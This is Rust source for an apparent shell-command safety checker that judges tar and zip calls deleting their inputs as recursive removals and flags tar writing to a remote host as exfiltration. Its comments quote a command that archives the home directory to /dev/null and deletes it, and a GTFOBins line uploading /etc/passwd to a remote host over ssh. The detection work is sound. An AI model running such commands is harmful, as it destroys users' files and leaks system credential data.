//! Archivers that delete what they pack (tar's `--remove-files`, zip's
//! `-m`): judged as a recursive removal of their operands; GNU tar's
//! remote archives (`-f HOST:FILE`); and what an archiver only reads when
//! it packs.

use super::*;

impl Walker<'_> {
    /// `tar -cf /dev/null --remove-files ~`, `zip -rm x.zip DIR`: the
    /// archiver deletes what it packed (tar(1) `--remove-files`, zip(1)
    /// `-m`), as `rm -r` of its operands would.
    pub(super) fn archive_removes(
        &mut self,
        name: &str,
        rest: &[Arg<'_>],
        vals: &[&str],
        text: &str,
    ) {
        if let Some(host) = remote_archive(name, vals) {
            self.find(
                Exfil,
                High,
                format!("{name} writes its archive to {host} (a remote archive)"),
                text,
            );
        }
        let removes = match name {
            "tar" | "bsdtar" | "gtar" => vals.contains(&"--remove-files"),
            "zip" => vals.iter().any(|v| {
                *v == "-m"
                    || *v == "--move"
                    || (v.starts_with('-') && !v.starts_with("--") && v.contains('m'))
            }),
            _ => false,
        };
        if !removes {
            return;
        }
        // The archive itself is not removed: tar's `-f FILE` (also last in
        // a cluster, `-cf FILE`, or in the old bundle `czf FILE`), zip's
        // first operand.
        let mut archive_next = false;
        let mut first_operand = true;
        for (i, a) in rest.iter().enumerate() {
            let v = a.v();
            let old_bundle = name != "zip"
                && i == 0
                && !v.starts_with('-')
                && v.chars().all(|c| "ctxrujzJvfpPaOkmSWZ".contains(c));
            if v.starts_with('-') || old_bundle {
                archive_next |= v == "--file"
                    || (!v.starts_with("--") && v.contains('f'))
                    || (old_bundle && v.contains('f'));
                continue;
            }
            if std::mem::take(&mut archive_next) || (name == "zip" && first_operand) {
                first_operand = false;
                continue;
            }
            first_operand = false;
            for abs in self.arg_paths(a) {
                self.removal_target(&abs, &abs, false, true, text);
            }
        }
    }
}

/// Whether word `i` of an archiver's call is only read: tar creating an
/// archive (`-c`, `--create`, the old bundle `czf`) reads every operand
/// but the archive file (`-f FILE`, `-cf FILE`, `--file=FILE`): `tar -czf
/// logs.tgz /var/log` was denied as a change of the logs (l101, session
/// 29). Extracting, appending and updating write.
pub(super) fn packed_only(name: &str, vals: &[&str], i: usize) -> bool {
    if !matches!(name, "tar" | "bsdtar" | "gtar") {
        return false;
    }
    let cluster = |v: &str, c: char| v.starts_with('-') && !v.starts_with("--") && v.contains(c);
    let bundle = vals
        .first()
        .filter(|v| !v.starts_with('-') && v.chars().all(|c| "ctvzjJfpPaO".contains(c)));
    let creates = vals.iter().any(|v| *v == "--create" || cluster(v, 'c'))
        || bundle.is_some_and(|b| b.contains('c'));
    let writes = vals.iter().any(|v| {
        matches!(
            *v,
            "--extract" | "--get" | "--append" | "--update" | "--catenate" | "--remove-files"
        ) || ['x', 'r', 'u', 'A'].iter().any(|c| cluster(v, *c))
    }) || bundle.is_some_and(|b| b.contains('x'));
    if !creates || writes {
        return false;
    }
    let Some(v) = vals.get(i) else {
        return false;
    };
    if v.starts_with("--file=") {
        return false;
    }
    // The word after `-f`, `--file`, a cluster or bundle ending in `f`.
    let after_f = i.checked_sub(1).and_then(|p| vals.get(p)).is_some_and(|p| {
        *p == "--file" || !p.starts_with("--") && p.ends_with('f') && (p.starts_with('-') || i == 1)
    });
    !after_f
}

/// The host of GNU tar's archive when it lies on another machine and tar
/// writes it: `-f [USER@]HOST:FILE` (tar(1) "--file": a colon before any
/// slash names a remote archive, reached through rsh or `--rsh-command`;
/// `--force-local` turns that off), when creating, appending or updating
/// (GTFOBins tar, file upload: `tar cvf user@host:/tmp/f.tar /etc/passwd
/// --rsh-command=/bin/ssh`).
fn remote_archive<'v>(name: &str, vals: &[&'v str]) -> Option<&'v str> {
    if !matches!(name, "tar" | "gtar") || vals.contains(&"--force-local") {
        return None;
    }
    let bundle = vals
        .first()
        .filter(|v| !v.starts_with('-') && v.chars().all(|c| "ctvzjJfpPaOru".contains(c)));
    let writes = vals.iter().any(|v| {
        matches!(*v, "--create" | "--append" | "--update")
            || v.starts_with('-') && !v.starts_with("--") && v.contains(['c', 'r', 'u'])
    }) || bundle.is_some_and(|b| b.contains(['c', 'r', 'u']));
    if !writes {
        return None;
    }
    let file = vals.iter().enumerate().find_map(|(i, v)| {
        if let Some(f) = v.strip_prefix("--file=") {
            return Some(f);
        }
        let names_next = *v == "--file"
            || v.starts_with('-') && !v.starts_with("--") && v.ends_with('f')
            || i == 0 && bundle.is_some_and(|b| b.contains('f'));
        names_next.then(|| vals.get(i + 1).copied()).flatten()
    })?;
    let (host, path) = file.split_once(':')?;
    (!host.is_empty() && !host.contains('/') && !path.is_empty()).then_some(host)
}
